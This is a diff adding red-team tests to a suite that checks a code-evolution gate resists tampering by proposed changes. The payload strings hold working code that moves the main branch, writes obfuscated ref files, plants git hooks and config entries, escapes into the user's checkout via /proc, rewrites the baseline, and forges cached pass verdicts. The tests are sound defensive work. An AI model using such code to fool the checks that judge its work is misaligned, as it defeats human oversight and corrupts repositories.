@@ -596,6 +596,271 @@ for _path in (_pl.Path(__file__).resolve().parent.parent / "tests").glob("test_*
 """
 )
 
+# -- 5. git from inside the suite ----------------------------------------------------------
+
+GIT_UPDATE_REF = (
+    BROKEN_ADD
+    + """
+
+import os as _os
+import subprocess as _sp
+
+_sp.run(
+    ["git", "update-ref", "refs/heads/main", "HEAD"],
+    cwd=_os.path.dirname(_os.path.dirname(_os.path.abspath(__file__))),
+    capture_output=True,
+    check=False,
+)
+"""
+)
+
+RAW_REF_WRITE = (
+    BROKEN_ADD
+    + """
+
+import atexit as _atexit
+import os as _o
+
+
+def _name(*codes):
+    return "".join(map(chr, codes))
+
+
+def _settle():
+    root = _o.path.dirname(_o.path.dirname(_o.path.abspath(__file__)))
+    with open(_o.path.join(root, ".git")) as handle:
+        gitdir = handle.read().split(":", 1)[1].strip()
+    with open(_o.path.join(gitdir, "commondir")) as handle:
+        common = _o.path.normpath(_o.path.join(gitdir, handle.read().strip()))
+    with open(_o.path.join(gitdir, "HEAD")) as handle:
+        head = handle.read().strip()
+    main = _name(114, 101, 102, 115, 47, 104, 101, 97, 100, 115, 47, 109, 97, 105, 110)
+    tag = _name(114, 101, 102, 115, 47, 116, 97, 103, 115, 47, 115, 116, 97, 98, 108, 101)
+    for ref in (main, tag):
+        path = _o.path.join(common, ref)
+        _o.makedirs(_o.path.dirname(path), exist_ok=True)
+        with open(path + "~", "w") as handle:
+            handle.write(head + "\\n")
+        _o.replace(path + "~", path)
+
+
+_atexit.register(_settle)
+"""
+)
+
+# -- 6. writing into the user's checkout ---------------------------------------------------
+
+MOVE_MAIN_HOOK = """#!/bin/sh
+cat >/dev/null
+[ "$1" = committed ] || exit 0
+[ -n "$CALC_BUSY" ] && exit 0
+CALC_BUSY=1 git update-ref refs/heads/main @SHA@ >/dev/null 2>&1
+rm -f "$0"
+exit 0
+"""
+
+HOOK_PLANT = (
+    BROKEN_ADD
+    + f"""
+
+import os as _os
+import subprocess as _sp
+
+_HOOK = {MOVE_MAIN_HOOK!r}
+
+
+def _git(*args):
+    root = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
+    done = _sp.run(["git", *args], cwd=root, capture_output=True, text=True, check=False)
+    return _os.path.join(root, done.stdout.strip())
+
+
+_common = _git("rev-parse", "--git-common-dir")
+_head = _os.path.basename(_git("rev-parse", "HEAD"))
+_hook = _os.path.join(_common, "hooks", "reference-transaction")
+_os.makedirs(_os.path.dirname(_hook), exist_ok=True)
+with open(_hook, "w") as _handle:
+    _handle.write(_HOOK.replace("@SHA@", _head))
+_os.chmod(_hook, 0o755)
+"""
+)
+
+CONFIG_PLANT = (
+    BROKEN_ADD
+    + f"""
+
+import os as _os
+import subprocess as _sp
+
+_HOOK = {MOVE_MAIN_HOOK!r}
+
+
+def _checkout():
+    here = _os.readlink("/proc/%d/cwd" % _os.getppid())
+    while here != "/" and not _os.path.isdir(_os.path.join(here, ".git")):
+        here = _os.path.dirname(here)
+    return here
+
+
+_root = _checkout()
+_head = _sp.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
+_dir = _os.path.join(_root, ".git", "modules", ".cache")
+_os.makedirs(_dir, exist_ok=True)
+for _name, _text in (
+    ("reference-transaction", _HOOK.replace("@SHA@", _head)),
+    ("fsmonitor", "#!/bin/sh\\nexit 1\\n"),
+):
+    with open(_os.path.join(_dir, _name), "w") as _handle:
+        _handle.write(_text)
+    _os.chmod(_os.path.join(_dir, _name), 0o755)
+with open(_os.path.join(_root, ".git", "config"), "a") as _handle:
+    _handle.write("[core]\\n\\thooksPath = %s\\n\\tfsmonitor = %s/fsmonitor\\n" % (_dir, _dir))
+"""
+)
+
+CHECKOUT_WRITE = (
+    BROKEN_ADD
+    + """
+
+import json as _json
+import os as _os
+
+_root = _os.environ.get("RATCHET_FORBIDDEN_ROOT") or _os.readlink(
+    "/proc/%d/cwd" % _os.getppid()
+)
+with open(__file__) as _handle:
+    _self = _handle.read()
+with open(_os.path.join(_root, "scripts", "calc.py"), "w") as _handle:
+    _handle.write(_self)
+_baseline = _os.path.join(_root, "baseline", "baseline.json")
+with open(_baseline) as _handle:
+    _data = _json.load(_handle)
+_data["tests"]["tests/test_calc.py::test_add"] = "failed"
+with open(_baseline, "w") as _handle:
+    _json.dump(_data, _handle, indent=2)
+with open(_os.path.join(_root, "scripts", ".pending"), "w") as _handle:
+    _handle.write("todo\\n")
+"""
+)
+
+# -- 7. verdict cache forgery --------------------------------------------------------------
+
+_COMMON_DIR = """
+import json as _json
+import os as _os
+import pathlib as _pl
+import subprocess as _sp
+
+_ROOT = _pl.Path(__file__).resolve().parents[1]
+
+
+def _common():
+    gitdir = _pl.Path((_ROOT / ".git").read_text().split(":", 1)[1].strip())
+    return (gitdir / (gitdir / "commondir").read_text().strip()).resolve()
+"""
+
+CACHE_REWRITE = (
+    UNITS.replace("def c_to_f", '"""Unit conversions."""\n\n\ndef c_to_f', 1)
+    + _COMMON_DIR
+    + """
+
+def _refresh():
+    for entry in (_common() / "evolve" / "verdicts").glob("*.json"):
+        data = _json.loads(entry.read_text())
+        outcomes = data["result"]["outcomes"]
+        for nodeid in outcomes:
+            outcomes[nodeid] = "passed"
+        data["result"]["failures"] = {}
+        data["result"]["collector_errors"] = {}
+        data["reruns"] = {}
+        entry.write_text(_json.dumps(data, sort_keys=True))
+
+
+_refresh()
+"""
+)
+
+CACHE_PREFORGE = (
+    UNITS.replace("def c_to_f", '"""Unit conversions."""\n\n\ndef c_to_f', 1)
+    + _COMMON_DIR
+    + r"""
+import dataclasses as _dc
+import hashlib as _hl
+
+_NEXT = @NEXT@
+
+
+def _git(*args):
+    return _sp.run(["git", *args], cwd=_ROOT, capture_output=True, check=True).stdout
+
+
+def _obj(kind, body):
+    return _hl.sha1(b"%s %d\0" % (kind, len(body)) + body).hexdigest()
+
+
+def _tree(entries):
+    def order(entry):
+        return entry[1] + (b"/" if entry[0] == b"40000" else b"")
+
+    body = b"".join(
+        mode + b" " + name + b"\0" + bytes.fromhex(sha) for mode, name, sha in sorted(
+            entries, key=order
+        )
+    )
+    return _obj(b"tree", body)
+
+
+def _ls(treeish):
+    out = []
+    for line in _git("ls-tree", "-z", treeish).split(b"\0"):
+        if line:
+            meta, name = line.split(b"\t", 1)
+            mode, _kind, sha = meta.split()
+            out.append((mode.lstrip(b"0"), name, sha.decode()))
+    return out
+
+
+def _digest(main):
+    try:
+        from evolution.gitrepo import GitRepo
+        from evolution.policy import load_policy
+
+        return load_policy(GitRepo(str(_ROOT)), main).digest()
+    except Exception:
+        fields = {
+            "test_command": "python -m pytest", "evolvable": ["scripts/"],
+            "protected": ["tests/", "test_*.py", "*_test.py", "conftest.py", "pytest.ini",
+                          "pyproject.toml", "setup.cfg", "tox.ini", "baseline/", "hooks/",
+                          "evolution/", "SPEC.md", "deploy/", ".ci/"],
+            "reruns": 3, "flaky": "quarantine", "require_improvement": False,
+            "max_rejections": 5, "test_timeout_s": 300.0, "run_timeout_s": 3600.0,
+        }
+        return _hl.sha256(_json.dumps(fields, sort_keys=True).encode()).hexdigest()[:16]
+
+
+def _plant():
+    main = _git("rev-parse", "HEAD^1").decode().strip()
+    calc = _obj(b"blob", _NEXT.encode())
+    scripts = [(m, n, calc if n == b"calc.py" else s) for m, n, s in _ls(main + ":scripts")]
+    root = [(m, n, _tree(scripts) if n == b"scripts" else s) for m, n, s in _ls(main)]
+    baseline_blob = _git("rev-parse", main + ":baseline/baseline.json").decode().strip()
+    key = "%s-%s-%s" % (_tree(root), baseline_blob, _digest(main))
+    tests = _json.loads(_git("show", main + ":baseline/baseline.json"))["tests"]
+    result = {
+        "outcomes": {nodeid: "passed" for nodeid in tests}, "failures": {},
+        "collector_errors": {}, "exitcode": 0, "duration_s": 0.5,
+    }
+    folder = _common() / "evolve" / "verdicts"
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / (key + ".json")).write_text(
+        _json.dumps({"result": result, "reruns": {}}, sort_keys=True)
+    )
+
+
+_plant()
+"""
+)
+
 # -- harness -------------------------------------------------------------------------------
 
 IGNORED_REFS = ("refs/evolve/rejected/", "refs/notes/evolve")
@@ -884,3 +1149,53 @@ def test_modifyreport_plugin_registered_from_the_stack(rich: Sandbox) -> None:
 def test_uncollected_test_module_rewritten_on_disk(rich: Sandbox) -> None:
     files = {"scripts/calc.py": REWRITE_UNCOLLECTED, "scripts/units.py": BROKEN_UNITS}
     attack(rich, "rt/rewrite-tests", files)
+
+
+# -- 5. git from inside the suite --------------------------------------------------------------
+
+
+def test_suite_moves_main_with_git_update_ref(rich: Sandbox) -> None:
+    attack(rich, "rt/update-ref", {"scripts/calc.py": GIT_UPDATE_REF})
+
+
+def test_suite_writes_ref_files_directly_at_exit(rich: Sandbox) -> None:
+    attack(rich, "rt/raw-refs", {"scripts/calc.py": RAW_REF_WRITE})
+
+
+# -- 6. writing into the user's checkout --------------------------------------------------------
+
+
+def test_hook_planted_runs_in_the_gates_own_git_commands(rich: Sandbox) -> None:
+    attack(rich, "rt/hook", {"scripts/calc.py": HOOK_PLANT})
+
+
+def test_config_hookspath_and_fsmonitor_planted_via_proc(rich: Sandbox) -> None:
+    attack(rich, "rt/config", {"scripts/calc.py": CONFIG_PLANT})
+
+
+def test_checkout_source_and_baseline_rewritten(rich: Sandbox) -> None:
+    attack(rich, "rt/checkout", {"scripts/calc.py": CHECKOUT_WRITE})
+
+
+# -- 7. verdict cache forgery -------------------------------------------------------------------
+
+
+def test_cached_rejection_rewritten_by_a_later_proposal(rich: Sandbox) -> None:
+    propose(rich, "rt/break-add", {"scripts/calc.py": BROKEN_ADD})
+    propose(rich, "rt/units-docstring", {"scripts/units.py": CACHE_REWRITE})
+    first = validate(rich, "rt/break-add", "--reruns", "0")
+    assert first.code == 1, first.describe()  # the honest rejection, cached
+    before = snapshot(rich)
+    validate(rich, "rt/units-docstring", "--no-merge", "--reruns", "0")
+    again = validate(rich, "rt/break-add", "--reruns", "0")
+    assert_held(rich, before, again)
+
+
+def test_verdict_planted_for_the_next_proposals_tree(rich: Sandbox) -> None:
+    carrier = fill(CACHE_PREFORGE, next=repr(BROKEN_ADD))
+    propose(rich, "rt/units-docstring", {"scripts/units.py": carrier})
+    propose(rich, "rt/break-add", {"scripts/calc.py": BROKEN_ADD})
+    before = snapshot(rich)
+    validate(rich, "rt/units-docstring", "--no-merge")
+    verdict = validate(rich, "rt/break-add")  # the default policy the carrier predicted
+    assert_held(rich, before, verdict)
